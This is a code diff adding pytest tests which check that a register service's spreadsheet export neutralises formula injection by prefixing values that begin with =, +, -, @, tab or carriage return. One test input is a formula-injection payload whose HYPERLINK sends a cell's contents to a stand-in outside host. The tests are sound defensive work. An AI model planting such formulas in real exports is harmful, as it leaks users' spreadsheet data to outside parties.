@@ -276,6 +276,31 @@ async def test_the_register_has_what_was_sent_in_the_order_of_the_days(partners:
     assert done(await partners.get(f"{MOVEMENTS}/{second['id']}", by="epci"))["lot"] == "A"
 
 
+@pytest.mark.parametrize(
+    ("description", "written"),
+    [
+        ('=HYPERLINK("http://example.org/?"&A1)', '\'=HYPERLINK("http://example.org/?"&A1)'),
+        ("+33 2 54 00 00 00", "'+33 2 54 00 00 00"),
+        ("-1 : copeaux", "'-1 : copeaux"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("Copeaux = acier", "Copeaux = acier"),
+        ("'copeaux'", "'copeaux'"),
+    ],
+)
+async def test_a_spreadsheet_computes_nothing_that_people_wrote(
+    partners: Partners, description: str, written: str
+) -> None:
+    await member(partners)
+    await lead(partners, await draft(partners, description=description), "send")
+    (row,) = rows((await partners.get(f"{MOVEMENTS}/register", by="epci")).text)
+    assert (row["description"], row["tonnes_sent"]) == (written, "12.4")
+
+
+def test_what_begins_a_formula_is_told_from_a_number() -> None:
+    written = [register.plain(value) for value in ("\t=1", "\r=1", "-1.5", -1.5, None, "R3")]
+    assert written == ["'\t=1", "'\r=1", "'-1.5", -1.5, None, "R3"]
+
+
 async def test_the_register_holds_only_what_its_reader_may_see(
     partners: Partners, monkeypatch: pytest.MonkeyPatch
 ) -> None:
